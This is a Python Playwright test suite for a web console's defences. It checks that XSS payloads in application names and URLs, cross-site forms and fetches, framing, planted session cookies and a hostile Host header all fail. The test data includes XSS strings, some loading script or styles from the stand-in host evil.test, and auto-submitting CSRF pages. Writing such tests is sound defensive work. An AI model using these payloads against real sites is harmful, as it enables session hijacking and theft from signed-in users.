"""What a hostile page, a hostile name or a planted cookie can do to somebody who is signed in: nothing."""

import functools
import http.server
import threading

import pytest
from console.place import OPERATOR, PASSWORD
from console.steps import settled
from playwright.sync_api import expect

# Each would run, ask another host or break out of its place where text was taken for markup.
NAMES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "\"><script src=//evil.test/x.js></script>",
    "'\"--></style></script><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "<base href=//evil.test/><link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button autofocus>x",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{name} {count} {what}",
    "__proto__",
    "<b>bold?</b>",
]


@pytest.fixture(scope="module")
def named(place):
    """An application of each name, owned by a merchant of the same name."""
    return {name: place.register(name, name)["application"]["clientId"] for name in NAMES}


@pytest.fixture
def watched(visit):
    """A page in which every way of a script to make itself heard is counted."""
    page = visit(None)
    page.context.add_init_script(
        "window.heard = 0; for (const name of ['alert', 'confirm', 'prompt', 'print'])"
        " window[name] = () => { window.heard += 1; };")
    return page


def sign_in_by_page(page):
    page.get_by_label("Name", exact=True).fill(OPERATOR)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def judge_markup(page):
    """Nothing of a name became an element: the page has its own one script and two kinds of links, and no frame."""
    assert page.evaluate("""() => [
      window.heard, document.scripts.length, document.querySelectorAll("iframe, base, meta[http-equiv], img, form[action], #root script, #root b").length,
      [...document.links].filter((link) => !link.href.startsWith(location.origin)).length]""") == [0, 2, 0, 0]


def test_names_are_text_wherever_they_are_shown(watched, place, named):
    page = watched
    page.reload()
    sign_in_by_page(page)
    base = place.url + "/"
    page.goto(base + "#/applications")
    for name, client_id in named.items():
        page.get_by_role("searchbox").fill(name[:60])
        link = page.locator(f'[data-key="{client_id}"] .grid-link')
        expect(link).to_have_text(name)
        judge_markup(page)
        page.goto(f"{base}#/applications/{client_id}")
        expect(page.get_by_role("heading", level=1)).to_have_text(name)
        judge_markup(page)
        page.goto(f"{base}#/applications/{client_id}/edit")
        expect(page.get_by_label("Name", exact=True)).to_have_value(name)
        judge_markup(page)
        page.goto(base + "#/applications")
    page.goto(base + "#/merchants")
    for name in NAMES:
        expect(page.get_by_role("cell", name=name, exact=True)).to_be_visible()
    judge_markup(page)
    page.goto(base + "#/audit")
    for name in NAMES:
        expect(page.get_by_role("link", name=name, exact=True).first).to_be_visible()
    judge_markup(page)


@pytest.mark.parametrize("address", [
    "#/applications/%3Cimg%20src=x%20onerror=alert(1)%3E", "#/%3Cscript%3Ealert(1)%3C/script%3E", "#javascript:alert(1)",
    "#/applications/..%2F..%2Fme", "#/welcome/%3Csvg%20onload=alert(1)%3E", "#/applications/%", "#/__proto__", "#/constructor",
])
def test_addresses_are_text_as_well(watched, place, address):
    page = watched
    page.reload()
    sign_in_by_page(page)
    page.goto(f"{place.url}/{address}")
    expect(page.locator("h1")).to_be_visible()
    judge_markup(page)


# MARK: Other pages

class Elsewhere(http.server.BaseHTTPRequestHandler):
    """A site of somebody else's."""

    def __init__(self, content, *arguments):
        self.content = content
        super().__init__(*arguments)

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.content().encode())

    def log_message(self, *arguments):
        pass


@pytest.fixture
def elsewhere():
    """Serves a page at another origin of the same site (`127.0.0.1` of another port) and at another site (`localhost`)."""
    servers = []

    def serve(text):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Elsewhere, lambda: text))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return server.server_address[1]

    yield serve
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture
def victim(browser, place):
    """Somebody who is signed in, and who opens a page of somebody else's. Not judged: that page may break its own rules."""
    context = browser.new_context(base_url=place.url)
    context.add_cookies([place.api(OPERATOR).cookie])
    yield context.new_page()
    context.close()


def test_what_makes_markup_of_text_is_shut_off(victim, place):
    """The net below the pages' own care: even a mistake in them makes no markup, and no script out of text."""
    victim.goto(place.url)
    settled(victim)
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'", "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.write('x')", "document.createElement('script').src = '/scripts/main.js'",
        "document.createElement('iframe').srcdoc = 'x'", "trustedTypes.createPolicy('own', {})",
    ):
        tried = f"() => {{ try {{ {attempt}; return 'done'; }} catch (error) {{ return error.name; }} }}"
        assert victim.evaluate(tried) == "TypeError", attempt
    # What the pages do instead is not shut off.
    assert victim.evaluate("() => { document.body.append('x'); return 'done'; }") == "done"


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_form_of_another_page_changes_nothing(victim, place, elsewhere, host):
    client_id = place.register("Forged upon")["application"]["clientId"]
    path = f"{place.url}/api/v1/applications/{client_id}"
    port = elsewhere(f"""<form method=post action="{path}/disable" enctype="text/plain"><input name=x></form>
      <script>document.forms[0].submit()</script>""")
    with victim.expect_response(f"{path}/disable") as answer:
        victim.goto(f"http://{host}:{port}/")
    assert answer.value.status in (401, 403, 415)
    assert place.operator.get(f"applications/{client_id}")["enabled"]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_script_of_another_page_changes_and_reads_nothing(victim, place, elsewhere, host):
    client_id = place.register("Forged upon")["application"]["clientId"]
    port = elsewhere("<p>Elsewhere")
    victim.goto(f"http://{host}:{port}/")
    outcomes = victim.evaluate("""async ([base, id]) => {
      const path = base + "/api/v1/applications/" + id;
      const attempts = [
        [path + "/disable", { method: "POST", mode: "no-cors" }],
        [path + "/disable", { method: "POST", mode: "no-cors", body: "{}", headers: { "Content-Type": "text/plain" } }],
        [path + "/disable", { method: "POST", headers: { "X-CSRF-Token": "x" } }],
        [path, { method: "DELETE" }], [path, {}], [base + "/api/v1/session", {}],
      ];
      return Promise.all(attempts.map(([url, options]) => fetch(url, { credentials: "include", ...options })
        .then((answer) => answer.type === "opaque" ? "opaque" : answer.text(), () => "failed")));
    }""", [place.url, client_id])
    # An opaque answer tells the script nothing; what it did, the next line tells.
    assert set(outcomes) <= {"opaque", "failed"}
    assert place.operator.get(f"applications/{client_id}")["enabled"]


def test_a_request_with_the_session_alone_is_refused(place):
    client_id = place.register("Forged upon")["application"]["clientId"]
    api = place.api(OPERATOR)
    token = api.http.headers.pop("X-CSRF-Token")
    for headers in ({}, {"X-CSRF-Token": "wrong"}, {"X-CSRF-Token": place.operator.http.headers["X-CSRF-Token"]},
                    {"X-CSRF-Token": token, "Origin": "http://evil.test"},
                    {"X-CSRF-Token": token, "Sec-Fetch-Site": "cross-site"}):
        assert api.send("POST", f"applications/{client_id}/disable", headers=headers).status_code == 403, headers
    assert place.operator.get(f"applications/{client_id}")["enabled"]
    right = {"X-CSRF-Token": token, "Origin": place.url, "Sec-Fetch-Site": "same-origin"}
    assert api.send("POST", f"applications/{client_id}/disable", headers=right).status_code == 200


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_that_frames_the_console_shows_nothing_of_it(victim, place, elsewhere, host):
    port = elsewhere(f'<iframe src="{place.url}/" width=800 height=600></iframe>')
    with victim.expect_response(place.url + "/"):
        victim.goto(f"http://{host}:{port}/")
    frame = victim.frames[1]
    expect(frame.locator("#root")).to_have_count(0)
    assert frame.url == "chrome-error://chromewebdata/"
    # Unframed, the same address shows the console.
    victim.goto(place.url)
    expect(victim.get_by_role("button", name="Sign out")).to_be_visible()


# MARK: Cookies

def test_a_planted_session_is_not_the_one_that_is_signed_in(visit, place):
    """Session fixation: whoever plants a cookie before somebody signs in knows nothing afterwards."""
    planted = place.api("bo").cookie
    made_up = planted | {"value": "A" * len(planted["value"])}
    for cookie in (planted, made_up):
        page = visit(None)
        page.context.add_cookies([cookie])
        page.reload()
        if cookie is planted:
            page.get_by_role("button", name="Sign out").click()
            page.context.add_cookies([cookie])
        sign_in_by_page(page)
        now = [each for each in page.context.cookies() if each["name"] == "tollgate_session"]
        assert len(now) == 1 and now[0]["value"] != cookie["value"]
        assert now[0]["httpOnly"] and now[0]["sameSite"] == "Strict"
        # What was planted opens nothing.
        stranger = place.api("bo")
        stranger.http.cookies.clear()
        stranger.http.cookies.set("tollgate_session", cookie["value"])
        assert stranger.send("GET", "me").status_code == 401


def test_each_sign_in_makes_a_session_of_its_own(place):
    assert place.api(OPERATOR).cookie["value"] != place.api(OPERATOR).cookie["value"]


def test_scripts_do_not_see_the_session(page):
    settled(page)
    assert page.evaluate("document.cookie") == ""


def test_a_name_that_leads_here_by_a_trick_is_not_served(place):
    """DNS rebinding: the browser of a victim believes that a hostile name is this address."""
    answer = place.operator.http.get(place.url + "/", headers={"Host": "evil.test"}, timeout=20)
    assert answer.status_code == 421
    assert place.operator.send("GET", "applications", headers={"Host": "evil.test"}).status_code == 421
